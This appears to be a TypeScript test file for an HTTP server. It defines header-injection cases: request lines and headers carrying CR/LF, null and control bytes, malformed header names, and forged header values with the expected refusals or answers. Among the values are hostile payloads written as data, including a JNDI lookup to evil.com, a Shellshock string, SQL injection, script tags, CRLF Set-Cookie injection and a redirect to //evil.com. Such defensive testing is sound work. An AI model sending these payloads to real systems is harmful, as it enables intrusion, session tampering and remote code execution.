import {
  fields,
  get,
  getRow,
  head,
  host,
  type Kind,
  type Row,
  reader,
  short,
  withoutBody,
} from './row';

/** A request with a header line of its own, however it is spelled. */
const withLine = (line: string, answers: Row['answers'], more: Partial<Row> = {}): Row => ({
  title: short(line),
  bytes: get('/en', line),
  answers,
  lang: 'en',
  ...more,
});

const refused = [withoutBody(400)];
const plain = { like: get('/en') };

/** What no request target may have. */
const breaks = ['\rSet-Cookie: x=1', '\r\r', '\0', '\x7f', '\t', '\x0b', ' Set-Cookie: x=1 '];

/** What ends the request line: HTTP/0.9 had no version, and what follows is a header of the request. */
const ends = ['\r\nSet-Cookie: x=1', '\nSet-Cookie: x=1'];

const named = ['Accept-Language', 'X-Request-Id', 'traceparent', 'Cookie', 'User-Agent', 'X-Any'];

/** Values by which a header of ours would be forged, had they a way into an answer or a line of the log. */
const forged = [
  ...fields(`
  X-Request-Id: <script> | X-Request-Id: a b | X-Request-Id: "} | X-Request-Id: \xe9
  X-Request-Id: %0d%0aSet-Cookie:%20x=1 | X-Request-Id: ../x | X-Request-Id: ;
  traceparent: 00-x | traceparent: 00-${'0'.repeat(32)}-${'0'.repeat(16)}-00" | traceparent: \xff
  Accept-Charset: %0d%0aSet-Cookie:%20x=1 | Accept-Charset: "><script> | Accept-Charset: \xe9\xff
  Accept-Charset: ;q= | Accept-Charset: en;q=1e9 | Accept-Charset: *;q=-1 | Accept-Charset: ,,,,;;;;
  User-Agent: \xff\xfe | User-Agent: \x80 | User-Agent: %00 | User-Agent: '; DROP TABLE x; --
  User-Agent: \${jndi:ldap://evil.com} | User-Agent: () { :; };`),
  ['X-Request-Id', 'x'.repeat(65)],
  ['traceparent', 'f'.repeat(4000)],
] as const;

export const injection: Kind = {
  name: 'header injection',
  rows: [
    ...breaks.flatMap((smuggled) => [
      getRow(`/en/products?q=${smuggled}`, withoutBody(400)),
      getRow(`/en${smuggled}`, withoutBody(400)),
      getRow(`/en/products${smuggled}/x`, withoutBody(400)),
    ]),
    ...ends.flatMap((end) => [
      getRow(`/en/products?q=${end}`, 301, { like: get('/en/products?q=') }),
      getRow(`/en${end}`, 200, { ...plain, lang: 'en' }),
      getRow(`/en/products${end}/x`, 301, { like: get('/en/products') }),
    ]),
    ...['%0d%0a', '%0a', '%0d', '%0d%0a%20', '%e5%98%8a%e5%98%8d', '%c4%8a', '%u000a'].flatMap(
      (end) => [
        getRow(`/en/products?q=${end}Set-Cookie:%20x=1`, 301),
        getRow(`/?${end}Location:%20//evil.com`, 302),
        getRow(`/en?${end}Set-Cookie:%20x=1`, 200, plain),
      ],
    ),
    ...named.flatMap((name) => [
      withLine(`${name}: a\0b`, refused),
      withLine(`${name}: a\rSet-Cookie: x=1`, refused),
      withLine(`${name}: a\nSet-Cookie: x=1`, refused),
      withLine(`${name}: a\x01b`, refused),
      withLine(`${name}: a\x7fb`, refused),
      withLine(`${name} : a`, refused),
      withLine(` ${name}: a`, refused),
      withLine(`\t${name}: a`, refused),
      withLine(`${name}\0: a`, refused),
      withLine(`${name}\x0b: a`, refused),
      withLine(`${name}`, refused),
    ]),
    // A line that begins with a space went on with the one before it (obs-fold), long ago.
    withLine('X-Any: a\r\n b', refused),
    withLine('X-Any: a\r\n\tSet-Cookie: x=1', refused),
    ...[': a', '\r: a', '(x): a', '"x": a', 'x y: a', 'x@y: a', '[x]: a', '\xe9: a', '<x>: a'].map(
      (line) => withLine(line, refused),
    ),
    withLine('X-Any: a\r\nSet-Cookie: x=1', [200], plain),
    ...forged.map(([name, value]) => withLine(`${name}: ${value}`, [200], plain)),
    {
      title: 'lines that end without CR',
      bytes: `GET /en HTTP/1.1\n${host}\nConnection: close\n\n`,
      answers: refused,
    },
    {
      title: 'lines that end without LF',
      bytes: `GET /en HTTP/1.1\r${host}\rConnection: close\r\r`,
      answers: refused,
    },
    {
      title: 'a first header that begins with a space',
      bytes: head('GET /en HTTP/1.1', ` ${host}`, reader, 'Connection: close'),
      answers: refused,
    },
  ],
};
